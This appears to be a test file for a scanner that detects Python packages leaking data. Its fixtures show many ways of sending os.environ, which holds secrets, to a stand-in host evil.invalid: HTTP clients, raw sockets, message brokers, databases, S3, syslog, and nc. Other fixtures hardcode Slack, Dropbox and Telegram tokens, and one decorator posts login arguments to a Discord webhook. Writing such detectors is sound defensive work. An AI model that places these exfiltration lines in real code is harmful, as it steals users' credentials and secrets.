import { judgeSources } from '../../../src/analysis/judge-sources.js';
import { python } from '../../support/loaded-python.js';
import { sourceTree } from '../../support/source-tree.js';

/** Whether data that is in `K` is seen to leave when the module is imported. */
function leaves(lines: readonly string[], data: string): boolean {
  const text = ['import os', `K = ${data}`, ...lines].join('\n');
  const { findings } = judgeSources(sourceTree({ 'fixture-1.0/pkg/__init__.py': text }), python);
  return findings.some(({ rule, severity }) => rule === 'stolen-data-sent' && severity === 'CRITICAL');
}

const TOKEN = 'xoxb-000000000000-000fixture000';

/** What carries data, each with a place that stands for a host or an account. */
const CARRIED: readonly (readonly [string, readonly string[]])[] = [
  [
    'a client with a base address',
    ['import httpx', 'c = httpx.Client(base_url="https://PLACE")', 'c.post("/a", json=K)'],
  ],
  [
    'a session with a base address',
    ['import aiohttp', 's = aiohttp.ClientSession("https://PLACE")', 's.post("/a", json=K)'],
  ],
  [
    'a pool of connections',
    ['import urllib3', 'p = urllib3.HTTPSConnectionPool("PLACE")', 'p.request("POST", "/", body=str(K))'],
  ],
  [
    'curl, set up step by step',
    [
      'import pycurl',
      'c = pycurl.Curl()',
      'c.setopt(c.URL, "https://PLACE/a")',
      'c.setopt(c.POSTFIELDS, str(K))',
      'c.perform()',
    ],
  ],
  [
    'a component of Windows',
    [
      'import win32com.client',
      'h = win32com.client.Dispatch("WinHttp.WinHttpRequest.5.1")',
      'h.Open("POST", "https://PLACE/a", False)',
      'h.Send(str(K))',
    ],
  ],
  [
    'a stream of asyncio',
    [
      'import asyncio',
      'async def f():',
      '  r, w = await asyncio.open_connection("PLACE", 443)',
      '  w.write(str(K).encode())',
      'asyncio.run(f())',
    ],
  ],
  [
    'a protocol of asyncio',
    [
      'import asyncio',
      'class P(asyncio.Protocol):',
      '  def connection_made(self, transport):',
      '    transport.write(str(K).encode())',
      'async def f():',
      '  await asyncio.get_running_loop().create_connection(P, "PLACE", 443)',
      'asyncio.run(f())',
    ],
  ],
  [
    'a stream of trio',
    [
      'import trio',
      'async def f():',
      '  s = await trio.open_tcp_stream("PLACE", 443)',
      '  await s.send_all(str(K).encode())',
      'trio.run(f)',
    ],
  ],
  [
    'a connection between processes',
    ['from multiprocessing.connection import Client', 'Client(("PLACE", 6000)).send(str(K))'],
  ],
  [
    'a broker of MQTT',
    [
      'import paho.mqtt.client as mqtt',
      'c = mqtt.Client()',
      'c.connect("PLACE", 1883)',
      'c.publish("a", str(K))',
    ],
  ],
  [
    'a broker of AMQP',
    [
      'import pika',
      'c = pika.BlockingConnection(pika.URLParameters("amqp://a:b@PLACE/"))',
      'c.channel().basic_publish(exchange="", routing_key="q", body=str(K))',
    ],
  ],
  ['a store of keys', ['import redis', 'r = redis.Redis(host="PLACE", port=6379)', 'r.rpush("q", str(K))']],
  [
    'a store of documents',
    ['from pymongo import MongoClient', 'MongoClient("mongodb://a:b@PLACE/x")["x"]["y"].insert_one(dict(K))'],
  ],
  [
    'a data base',
    [
      'import psycopg2',
      'c = psycopg2.connect("host=PLACE user=a password=b")',
      'c.cursor().execute("insert into t values (%s)", (str(K),))',
    ],
  ],
  [
    'a store of objects',
    [
      'import boto3',
      's = boto3.client("s3", endpoint_url="https://PLACE")',
      's.put_object(Bucket="b", Key="k", Body=str(K))',
    ],
  ],
  [
    'calls over gRPC',
    ['import grpc', 'c = grpc.insecure_channel("PLACE:443")', 'c.unary_unary("/a.B/C")(str(K).encode())'],
  ],
  [
    'a mailbox',
    ['import imaplib', 'm = imaplib.IMAP4_SSL("PLACE")', 'm.append("INBOX", "", None, str(K).encode())'],
  ],
  [
    'a log that is kept elsewhere',
    [
      'import logging, logging.handlers',
      'l = logging.getLogger("x")',
      'l.addHandler(logging.handlers.SysLogHandler(address=("PLACE", 514)))',
      'l.error(str(K))',
    ],
  ],
  [
    'what a program reads',
    ['import subprocess', 'subprocess.run(["nc", "PLACE", "80"], input=str(K).encode())'],
  ],
];

describe.each(CARRIED)('%s', (_what, lines) => {
  const at = (place: string): string[] => lines.map((line) => line.replace('PLACE', place));
  const asked = lines.map((line) => line.replace(/"([^"]*)PLACE([^"]*)"/, '"$1" + input() + "$2"'));

  it('carries what is stolen to a host that stands in the source', () => {
    expect(leaves(at('evil.invalid'), 'os.environ.copy()')).toBe(true);
  });
  it('carries nothing stolen', () => {
    expect(leaves(at('evil.invalid'), '{"a": "b"}')).toBe(false);
  });
  it('goes where the user says', () => {
    expect(leaves(asked, 'os.environ.copy()')).toBe(false);
  });
});

it.each([
  [
    'a workspace',
    [
      'from slack_sdk import WebClient',
      'WebClient(token="TOKEN").chat_postMessage(channel="C0", text=str(K))',
    ],
  ],
  ['a folder', ['import dropbox', 'dropbox.Dropbox("TOKEN").files_upload(str(K).encode(), "/a.txt")']],
  [
    'an account that somebody signed in to',
    [
      'from telethon.sync import TelegramClient',
      'c = TelegramClient("s", 1, "h")',
      'c.send_message("TOKEN", str(K))',
    ],
  ],
])('the account of %s stands in the source', (_what, lines) => {
  const filled = (key: string): string[] => lines.map((line) => line.replace('"TOKEN"', key));
  expect(leaves(filled(`"${TOKEN}"`), 'os.environ.copy()')).toBe(true);
  expect(leaves(filled('input()'), 'os.environ.copy()')).toBe(false);
});

it('goes by the parameters of the function that a decorator replaced', () => {
  const judge = (parameter: string): boolean => {
    const text = [
      'import requests',
      'def trace(function):',
      '    def inner(*args):',
      '        requests.post("https://discord.com/api/webhooks/1/fixture", json={"content": f"{args}"})',
      '        return function(*args)',
      '    return inner',
      '@trace',
      `def login(${parameter}):`,
      '    return 1',
    ].join('\n');
    const { findings } = judgeSources(sourceTree({ 'fixture-1.0/pkg/__init__.py': text }), python);
    return findings.some(({ rule, severity }) => rule === 'credential-sent-aside' && severity === 'CRITICAL');
  };
  expect([judge('token'), judge('page')]).toEqual([true, false]);
});

it('reads an address that is given by name', () => {
  const judge = (address: string): boolean => {
    const text = `import requests\nrequests.post(url="${address}", json={"a": 1})`;
    const { findings } = judgeSources(sourceTree({ 'fixture-1.0/pkg/__init__.py': text }), python);
    return findings.some(({ rule, severity }) => rule === 'drop-contacted' && severity === 'CRITICAL');
  };
  expect([judge('https://webhook.site/fixture'), judge('https://evil.invalid/a')]).toEqual([true, false]);
});
